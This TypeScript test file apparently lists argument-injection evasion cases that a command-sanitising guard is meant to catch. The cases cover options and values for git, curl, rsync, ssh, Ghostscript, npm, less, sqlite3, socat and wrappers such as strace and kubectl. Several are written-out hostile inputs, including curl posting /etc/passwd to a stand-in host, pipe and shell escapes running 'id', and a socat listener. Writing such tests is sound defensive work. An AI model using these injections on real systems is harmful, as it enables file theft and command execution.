import { commandCases, posix, program, type CommandCase } from '../../case-calls.ts';

const q = (value: string) => ({ query: { q: value } });

const options = commandCases('attack', [
  [
    'git takes refs from a bundle elsewhere',
    q('--bundle-uri=https://e.example/x'),
    program('git', 'clone', '--bundle-uri=https://e.example/x', 'u'),
    'git-clone(1)',
  ],
  [
    'git reads names from a file',
    q('--pathspec-from-file=/etc/passwd'),
    program('git', 'add', '--pathspec-from-file=/etc/passwd'),
    'git-add(1)',
  ],
  [
    'tar writes elsewhere',
    q('--one-top-level=/etc'),
    program('tar', 'xf', 'x.tar', '--one-top-level=/etc'),
    'tar(1)',
  ],
  [
    'rsync merges a filter file',
    q('--filter=merge /etc/passwd'),
    program('rsync', '--filter=merge /etc/passwd', 'a', 'b'),
    'rsync(1)',
  ],
  [
    'rsync passes an option on',
    q('--remote-option=--log-file=x'),
    program('rsync', '--remote-option=--log-file=x', 'a', 'b'),
    'rsync(1)',
  ],
  [
    'ssh loads a library',
    q('-I/tmp/x.so'),
    program('ssh', '-I/tmp/x.so', 'host'),
    'ssh(1), PKCS#11',
  ],
  [
    'ssh jumps over another host',
    q('-Je.example'),
    program('ssh', '-Je.example', 'host'),
    'ssh(1), ProxyJump',
  ],
  [
    'curl sends a cookie file',
    q('-b/etc/passwd'),
    program('curl', '-b/etc/passwd', 'https://a.example'),
    'curl(1), --cookie',
  ],
  [
    'curl uses another proxy',
    q('--socks5=e.example'),
    program('curl', '--socks5=e.example', 'https://a.example'),
    'curl(1)',
  ],
  [
    'Ghostscript writes to a pipe',
    q('-o|id'),
    program('gs', '-o|id', 'a.ps'),
    'Ghostscript, Use.htm: %pipe%',
  ],
  [
    'node writes reports elsewhere',
    q('--report-directory=/srv/public'),
    program('node', '--report-directory=/srv/public', 'a.js'),
    'Node.js, command-line options',
  ],
  [
    'docker takes another’s volumes',
    q('--volumes-from=db'),
    program('docker', 'run', '--volumes-from=db', 'img'),
    'docker run',
  ],
  [
    'pandoc runs a reader in Lua',
    q('--from=/tmp/x.lua'),
    program('pandoc', '--from=/tmp/x.lua', 'a'),
    'pandoc, custom readers',
  ],
  [
    'gpg reads its commands from a file',
    q('--command-file=/tmp/x'),
    program('gpg', '--command-file=/tmp/x'),
    'gpg(1)',
  ],
]);

const values = commandCases('attack', [
  [
    'curl sends a file’s content',
    q('@/etc/passwd'),
    program('curl', '-d', '@/etc/passwd', 'https://a.example'),
    'curl(1), --data',
  ],
  [
    'curl sends a file’s content as a form’s field',
    q('@/etc/passwd'),
    program('curl', '-F', 'note=@/etc/passwd', 'https://a.example'),
    'curl(1), --form',
  ],
  [
    'curl speaks LDAP',
    q('ldap://10.0.0.1/x'),
    program('curl', '--', 'ldap://10.0.0.1/x'),
    'protocol smuggling, CWE-918',
  ],
  [
    'npm installs from a repository',
    q('evil/x'),
    program('npm', 'install', '--', 'evil/x'),
    'npm install, git hosts',
  ],
  [
    'npm installs under another name',
    q('left-pad@npm:evil'),
    program('npm', 'install', 'left-pad@npm:evil'),
    'npm install, aliases',
  ],
  [
    'npm installs a folder',
    q('../evil'),
    program('npm', 'install', '../evil'),
    'npm install, folders',
  ],
  ['less runs a command at the start', q('+!id'), program('less', '+!id', 'a'), 'GTFOBins, less'],
  [
    'SQLite’s shell runs a command',
    q('.shell id'),
    program('sqlite3', 'x.db', '.shell id'),
    'SQLite, cli.html',
  ],
  [
    'socat listens',
    q('tcp-listen:4444,fork'),
    program('socat', 'tcp-listen:4444,fork', 'stdio'),
    'socat(1)',
  ],
  [
    'ImageMagick reads any file as pixels',
    q('rgb:/etc/passwd'),
    program('convert', '-size', '9x9', 'rgb:/etc/passwd', 'o.png'),
    'ImageMagick, formats',
  ],
]);

const wrapped = commandCases('attack', [
  [
    'strace starts the program',
    q('-o/tmp/x'),
    program('strace', '-f', 'curl', '-o/tmp/x'),
    'strace(1)',
  ],
  [
    'xvfb-run starts the program',
    q('--run-script=x'),
    program('xvfb-run', '-a', 'wkhtmltopdf', '--run-script=x', 'a', 'b'),
    'xvfb-run(1)',
  ],
  [
    'taskset starts the program',
    q('--output=/x'),
    program('taskset', '1', 'git', 'log', '--output=/x'),
    'taskset(1)',
  ],
  [
    'kubectl starts the program',
    q('--output=/x'),
    posix('kubectl exec pod -- git log --output=/x'),
    'kubectl exec',
  ],
  ['busybox is the program', q('-O/tmp/x'), program('busybox', 'wget', '-O/tmp/x'), 'busybox'],
]);

/** Options, values and wrappers that a second reading of the programs’ manuals brought. */
export const evasions: readonly CommandCase[] = [...options, ...values, ...wrapped];
